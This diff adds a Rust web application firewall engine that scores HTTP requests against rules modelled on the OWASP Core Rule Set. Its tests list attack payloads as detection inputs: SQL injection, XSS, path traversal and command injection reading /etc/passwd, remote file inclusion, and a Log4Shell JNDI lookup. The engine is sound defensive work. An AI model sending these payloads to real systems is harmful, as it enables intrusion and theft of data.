@@ -1,0 +1,353 @@
+//! The web application firewall's engine: what of a request is inspected
+//! (path, query names and values, cookies, `Referer`, `User-Agent`, the
+//! head itself), undone encodings (`normalize`), the rules (`rules`), and
+//! the anomaly score they add up to, as in the OWASP Core Rule Set.
+
+pub mod normalize;
+pub mod rules;
+
+use regex::RegexSet;
+use rules::{Detector, Protocol, Rule, Target, RULES};
+use std::fmt;
+
+/// Where in the request a value was found: `path`, `query:q`, `cookie:session`.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum Location {
+    Path,
+    QueryName,
+    Query(String),
+    Cookie(String),
+    Header(&'static str),
+    Body(String),
+    Head,
+}
+
+impl fmt::Display for Location {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match self {
+            Location::Path => f.write_str("path"),
+            Location::QueryName => f.write_str("query_name"),
+            Location::Query(name) => write!(f, "query:{name}"),
+            Location::Cookie(name) => write!(f, "cookie:{name}"),
+            Location::Header(name) => write!(f, "header:{name}"),
+            Location::Body(name) => write!(f, "body:{name}"),
+            Location::Head => f.write_str("request"),
+        }
+    }
+}
+
+/// One rule that matched: where, and a short escaped sample for the log.
+#[derive(Debug, Clone)]
+pub struct Match {
+    pub rule: &'static Rule,
+    pub location: String,
+    pub sample: String,
+}
+
+/// What the rules found in a request.
+#[derive(Debug, Default)]
+pub struct Verdict {
+    pub score: u32,
+    pub matches: Vec<Match>,
+}
+
+/// A rule switched off, for a whole route or for some locations.
+#[derive(Debug, Clone)]
+pub struct Exclusion {
+    /// Empty: every rule.
+    pub rules: Vec<u32>,
+    /// Empty: everywhere. `query:q`, `body:comment`, `cookie:*`, `path`.
+    pub locations: Vec<String>,
+}
+
+impl Exclusion {
+    fn covers(&self, rule: u32, location: &str) -> bool {
+        (self.rules.is_empty() || self.rules.contains(&rule))
+            && (self.locations.is_empty() || self.locations.iter().any(|l| location_matches(l, location)))
+    }
+}
+
+/// `cookie:*` covers every cookie; otherwise the location as written.
+fn location_matches(pattern: &str, location: &str) -> bool {
+    match pattern.strip_suffix('*') {
+        Some(prefix) => location.starts_with(prefix),
+        None => pattern.eq_ignore_ascii_case(location),
+    }
+}
+
+/// The compiled rules of one `waf` block.
+#[derive(Debug)]
+pub struct Engine {
+    values: RegexSet,
+    value_rules: Vec<&'static Rule>,
+    agents: RegexSet,
+    agent_rules: Vec<&'static Rule>,
+    sqli: Option<&'static Rule>,
+    xss: Option<&'static Rule>,
+    protocol: Vec<&'static Rule>,
+    allowed_methods: Vec<http::Method>,
+    exclusions: Vec<Exclusion>,
+}
+
+/// Longest sample of a matched value written to the log.
+const SAMPLE: usize = 64;
+
+impl Engine {
+    /// The rules up to `paranoia`, less those excluded everywhere.
+    pub fn new(paranoia: u8, allowed_methods: Vec<http::Method>, exclusions: Vec<Exclusion>) -> Result<Engine, String> {
+        let everywhere_off = |id: u32| {
+            exclusions
+                .iter()
+                .any(|e| e.locations.is_empty() && e.rules.contains(&id))
+        };
+        let active: Vec<&'static Rule> = RULES
+            .iter()
+            .filter(|r| r.paranoia <= paranoia && !everywhere_off(r.id))
+            .collect();
+        let of = |target: Target| {
+            active
+                .iter()
+                .copied()
+                .filter(move |r| r.target == target)
+                .collect::<Vec<_>>()
+        };
+        let (values, value_rules) = rules::pattern_set(&of(Target::Values)).map_err(|e| e.to_string())?;
+        let (agents, agent_rules) = rules::pattern_set(&of(Target::UserAgent)).map_err(|e| e.to_string())?;
+        let find = |detector: Detector| active.iter().copied().find(|r| r.detector == detector);
+        Ok(Engine {
+            values,
+            value_rules,
+            agents,
+            agent_rules,
+            sqli: find(Detector::Sqli),
+            xss: find(Detector::Xss),
+            protocol: of(Target::Head),
+            allowed_methods,
+            exclusions,
+        })
+    }
+
+    /// Every rule that matches the request head, and the score they add up to.
+    pub fn inspect(&self, request: &http::request::Parts) -> Verdict {
+        let mut verdict = Verdict::default();
+        self.check_head(request, &mut verdict);
+        let path = request.uri.path();
+        self.check_value(&Location::Path, path, &mut verdict);
+        if let Some(query) = request.uri.query() {
+            // Split here, not by a form decoder: the values must reach
+            // `normalize` still encoded (a decoder would turn overlong
+            // UTF-8 into replacement characters first).
+            for pair in query.split('&').filter(|p| !p.is_empty()) {
+                let (name, value) = pair.split_once('=').unwrap_or((pair, ""));
+                self.check_value(&Location::QueryName, name, &mut verdict);
+                let location = Location::Query(normalize::decode(name).into_owned());
+                self.check_value(&location, value, &mut verdict);
+            }
+        }
+        for header in request.headers.get_all(http::header::COOKIE) {
+            let Ok(text) = header.to_str() else { continue };
+            for pair in text.split(';') {
+                let (name, value) = pair.split_once('=').unwrap_or((pair, ""));
+                self.check_value(&Location::Cookie(name.trim().to_string()), value.trim(), &mut verdict);
+            }
+        }
+        if let Some(referer) = request.headers.get(http::header::REFERER).and_then(|v| v.to_str().ok()) {
+            self.check_value(&Location::Header("referer"), referer, &mut verdict);
+        }
+        if let Some(agent) = request
+            .headers
+            .get(http::header::USER_AGENT)
+            .and_then(|v| v.to_str().ok())
+        {
+            let canonical = normalize::canonical(&normalize::decode(agent));
+            for index in self.agents.matches(&canonical).iter() {
+                self.record(
+                    self.agent_rules[index],
+                    &Location::Header("user-agent"),
+                    agent,
+                    &mut verdict,
+                );
+            }
+        }
+        verdict
+    }
+
+    /// Inspects one value of a body (a form field, a JSON string, a part).
+    pub fn inspect_value(&self, location: &Location, raw: &str, verdict: &mut Verdict) {
+        self.check_value(location, raw, verdict);
+    }
+
+    fn check_head(&self, request: &http::request::Parts, verdict: &mut Verdict) {
+        for rule in &self.protocol {
+            let Detector::Protocol(check) = rule.detector else {
+                continue;
+            };
+            let anomalous = match check {
+                Protocol::Method => !self.allowed_methods.contains(&request.method),
+                Protocol::NoHost => {
+                    request.version == http::Version::HTTP_11
+                        && !request.headers.contains_key(http::header::HOST)
+                        && request.uri.authority().is_none()
+                }
+                Protocol::BodyOnGet => {
+                    matches!(request.method, http::Method::GET | http::Method::HEAD)
+                        && (request.headers.contains_key(http::header::TRANSFER_ENCODING)
+                            || request
+                                .headers
+                                .get(http::header::CONTENT_LENGTH)
+                                .is_some_and(|v| v.as_bytes() != b"0"))
+                }
+                Protocol::AmbiguousFraming => {
+                    let lengths = request.headers.get_all(http::header::CONTENT_LENGTH).iter().count();
+                    lengths > 1 || (lengths == 1 && request.headers.contains_key(http::header::TRANSFER_ENCODING))
+                }
+            };
+            if anomalous {
+                self.record(rule, &Location::Head, request.method.as_str(), verdict);
+            }
+        }
+    }
+
+    fn check_value(&self, location: &Location, raw: &str, verdict: &mut Verdict) {
+        if raw.is_empty() {
+            return;
+        }
+        let decoded = normalize::decode(raw);
+        let canonical = normalize::canonical(&decoded);
+        for index in self.values.matches(&canonical).iter() {
+            self.record(self.value_rules[index], location, raw, verdict);
+        }
+        if let Some(rule) = self.sqli {
+            if detect(|| libinjectionrs::detect_sqli(decoded.as_bytes()).is_injection()) {
+                self.record(rule, location, raw, verdict);
+            }
+        }
+        if let Some(rule) = self.xss {
+            if detect(|| libinjectionrs::detect_xss(decoded.as_bytes()).is_injection()) {
+                self.record(rule, location, raw, verdict);
+            }
+        }
+    }
+
+    /// Counts a rule once per request, unless excluded where it matched.
+    fn record(&self, rule: &'static Rule, location: &Location, raw: &str, verdict: &mut Verdict) {
+        if verdict.matches.iter().any(|m| m.rule.id == rule.id) {
+            return;
+        }
+        let location = location.to_string();
+        if self.exclusions.iter().any(|e| e.covers(rule.id, &location)) {
+            return;
+        }
+        verdict.score += rule.severity as u32;
+        verdict.matches.push(Match {
+            rule,
+            location,
+            sample: sample(raw),
+        });
+    }
+}
+
+/// A detector's answer; a detector that panics (a bug on hostile input)
+/// counts as a match rather than taking the request down with it.
+fn detect(check: impl FnOnce() -> bool + std::panic::UnwindSafe) -> bool {
+    std::panic::catch_unwind(check).unwrap_or(true)
+}
+
+/// The start of a value, escaped, for a log line: never the whole payload.
+fn sample(raw: &str) -> String {
+    let mut cut: String = raw.chars().take(SAMPLE).collect();
+    if cut.len() < raw.len() {
+        cut.push('…');
+    }
+    cut.escape_debug().to_string()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn engine(paranoia: u8) -> Engine {
+        Engine::new(paranoia, vec![http::Method::GET, http::Method::POST], Vec::new()).unwrap()
+    }
+
+    fn ids(engine: &Engine, uri: &str) -> Vec<u32> {
+        let (parts, ()) = http::Request::get(uri)
+            .header("host", "x")
+            .body(())
+            .unwrap()
+            .into_parts();
+        engine.inspect(&parts).matches.iter().map(|m| m.rule.id).collect()
+    }
+
+    #[test]
+    fn attacks_match_and_look_alikes_do_not() {
+        let e = engine(1);
+        for attack in [
+            "/search?q=1%27%20OR%20%271%27%3D%271",
+            "/search?q=1%20UNION%20SELECT%20password%20FROM%20users",
+            "/p?id=1;DROP%20TABLE%20users",
+            "/q?x=%3Cscript%3Ealert(1)%3C/script%3E",
+            "/q?x=%253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E",
+            "/file?name=..%2F..%2F..%2Fetc%2Fpasswd",
+            "/file?name=%c0%ae%c0%ae%c0%afetc%c0%afpasswd",
+            "/ping?host=127.0.0.1%3Bcat%20/etc/passwd",
+            "/ping?host=%60id%60",
+            "/page?url=http://10.0.0.1/shell.txt",
+            "/page?file=php://filter/resource=index.php",
+            "/x?a=%24%7Bjndi%3Aldap%3A%2F%2Fevil%2Fa%7D",
+        ] {
+            assert!(!ids(&e, attack).is_empty(), "{attack}");
+        }
+        for benign in [
+            "/books?author=O%27Reilly",
+            "/search?q=select%20a%20plan",
+            "/search?q=how%20to%20update%20my%20profile%20and%20delete%20old%20posts",
+            "/users/7?fields=name,email",
+            "/search?q=rock%20%26%20roll",
+            "/calc?expr=1%2B1%3D2",
+            "/docs?path=guides/getting-started",
+            "/price?discount=50%25",
+            "/q?email=ada%40example.com",
+        ] {
+            assert_eq!(ids(&e, benign), Vec::<u32>::new(), "{benign}");
+        }
+    }
+
+    #[test]
+    fn exclusions_switch_rules_off_where_asked() {
+        let uri = "/c?comment=%3Cscript%3Ex%3C/script%3E&q=%3Cscript%3Ex%3C/script%3E";
+        let everywhere = Engine::new(
+            1,
+            vec![http::Method::GET],
+            vec![Exclusion {
+                rules: vec![941100, 941110],
+                locations: Vec::new(),
+            }],
+        )
+        .unwrap();
+        assert!(ids(&everywhere, uri).iter().all(|id| !matches!(id, 941100 | 941110)));
+        let comment_only = Engine::new(
+            1,
+            vec![http::Method::GET],
+            vec![Exclusion {
+                rules: Vec::new(),
+                locations: vec!["query:comment".into()],
+            }],
+        )
+        .unwrap();
+        let (parts, ()) = http::Request::get(uri)
+            .header("host", "x")
+            .body(())
+            .unwrap()
+            .into_parts();
+        let verdict = comment_only.inspect(&parts);
+        assert!(verdict.matches.iter().all(|m| m.location == "query:q"), "{verdict:?}");
+        assert!(!verdict.matches.is_empty());
+    }
+
+    #[test]
+    fn samples_are_short_and_escaped() {
+        assert_eq!(sample("a\nb"), "a\\nb");
+        assert_eq!(sample(&"x".repeat(100)).chars().count(), SAMPLE + 1);
+    }
+}
